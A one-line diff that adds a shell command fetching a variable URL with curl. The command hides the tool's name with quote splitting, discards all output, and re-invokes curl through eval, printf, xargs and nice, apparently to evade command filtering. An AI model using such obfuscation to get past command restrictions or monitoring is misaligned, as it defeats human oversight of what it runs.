@@ -1,0 +1,1 @@
+X=1 /usr/bin/c''url -s "$URL" > /dev/null 2>&1 && bash -c 'eval "$(printf curl)"' | xargs -I{} nice -n 5 curl {}
